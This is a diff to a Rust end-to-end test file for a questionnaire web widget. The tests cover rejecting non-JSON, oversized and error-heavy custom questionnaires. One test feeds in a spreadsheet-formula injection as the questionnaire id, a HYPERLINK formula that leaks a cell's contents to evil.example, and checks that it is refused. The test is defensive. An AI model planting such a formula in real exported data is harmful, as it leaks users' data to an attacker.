@@ -4,6 +4,9 @@
 
 use serde_json::{Value, json};
 
+use maturity_quiz::i18n::ui_text;
+use maturity_quiz::model::limits;
+
 use crate::dist;
 use crate::embedding::Visit;
 use crate::support::server::{Page, StaticServer};
@@ -110,10 +113,115 @@ fn e2e_custom_questionnaire_missing_file_shows_the_http_status() {
 
 #[test]
 fn e2e_custom_questionnaire_that_is_not_json_says_so() {
-    // A server that answers every path with its home page.
+    // A server that answers every path with its home page: refused by its
+    // type, before a byte of it is read as a questionnaire.
     let visit = visit(r#"<maturity-quiz src="page.html"></maturity-quiz>"#);
     assert_eq!(
         problems(&visit)["problems"],
-        json!(["line 1, column 1: not JSON: expected value"])
+        json!([
+            "could not load page.html: the server sent text/html; charset=utf-8, not JSON (the file must be served as application/json)"
+        ])
+    );
+    // A JSON file that is not a questionnaire's JSON still says where.
+    let visit = self::visit(
+        r#"<maturity-quiz><script type="application/json">not json</script></maturity-quiz>"#,
+    );
+    assert_eq!(
+        problems(&visit)["problems"],
+        json!(["line 1, column 2: not JSON: expected ident"])
+    );
+}
+
+#[test]
+fn e2e_custom_questionnaire_with_a_formula_as_its_id_is_refused_with_the_path() {
+    let formula = r#"=HYPERLINK("https://evil.example/?leak="&A2,"Open")"#;
+    let mut model: Value = serde_json::from_str(EXAMPLE).unwrap();
+    model["id"] = json!(formula);
+    let visit = visit(&format!(
+        r#"<maturity-quiz lang="en"><script type="application/json">{model}</script></maturity-quiz>"#
+    ));
+    assert_eq!(
+        problems(&visit)["problems"],
+        json!([
+            "id: \"=HYPERLINK(\"https://evil.example/?leak=\"…\" is not an id: use 1 to 64 letters, digits, '-', '_' and '.', starting with a letter or digit"
+        ])
+    );
+}
+
+#[test]
+fn e2e_custom_questionnaire_too_large_is_refused_and_the_page_goes_on() {
+    // Over the size limit, by a file on a server and by inline JSON, next to
+    // the built-in widget, which must still be usable.
+    let padding = " ".repeat(limits::BYTES);
+    let huge = format!("{EXAMPLE}{padding}");
+    let page = format!(
+        "<!doctype html><html lang=\"nl\"><head><meta charset=\"utf-8\"><title>Huge</title>\
+         <script type=\"module\" src=\"/embed.js\"></script></head><body>\
+         <maturity-quiz src=\"models/huge.json\"></maturity-quiz>\
+         <maturity-quiz><script type=\"application/json\">{huge}</script></maturity-quiz>\
+         <maturity-quiz></maturity-quiz></body></html>"
+    );
+    let server = StaticServer::builder(dist())
+        .page("/site/page.html", Page::html(page))
+        .page(
+            "/site/models/huge.json",
+            Page::new("application/json", huge.clone()),
+        )
+        .start();
+    let url = server.url("/site/page.html");
+    let visit = Visit::open(&url, vec![server]);
+    let first = visit.run(
+        0,
+        "return [...root.querySelectorAll('.mq-problems-list li')].map((li) => li.textContent);",
+    );
+    assert_eq!(
+        first,
+        json!([format!(
+            "could not load models/huge.json: the file is larger than {} bytes, the most a questionnaire may have",
+            limits::BYTES
+        )])
+    );
+    let second = visit.run(
+        1,
+        "return [text('.mq-problems-title'), ...[...root.querySelectorAll('.mq-problems-list li')].map((li) => li.textContent)];",
+    );
+    assert_eq!(
+        second,
+        json!([
+            ui_text("nl").problems_title,
+            format!(
+                "the file has {} bytes; a questionnaire may have at most {}",
+                huge.len(),
+                limits::BYTES
+            )
+        ])
+    );
+    assert_eq!(
+        visit.complete(2, &crate::embedding::CASE_B),
+        "Experimenteel"
+    );
+}
+
+#[test]
+fn e2e_custom_questionnaire_lists_a_hundred_problems_and_counts_the_rest() {
+    let mut model: Value = serde_json::from_str(EXAMPLE).unwrap();
+    let questions = model["questions"].as_array_mut().unwrap();
+    let last = questions.last().unwrap().clone();
+    let given = questions.len();
+    questions.resize(150, last);
+    let visit = visit(&format!(
+        r#"<maturity-quiz lang="en"><script type="application/json">{model}</script></maturity-quiz>"#
+    ));
+    let shown = visit.run(
+        0,
+        "return [root.querySelectorAll('.mq-problems-list li').length, text('.mq-problems-more')];",
+    );
+    let more = 150 - given - limits::PROBLEMS_LISTED;
+    assert_eq!(
+        shown,
+        json!([
+            limits::PROBLEMS_LISTED,
+            ui_text("en").problems_more.count(more)
+        ])
     );
 }
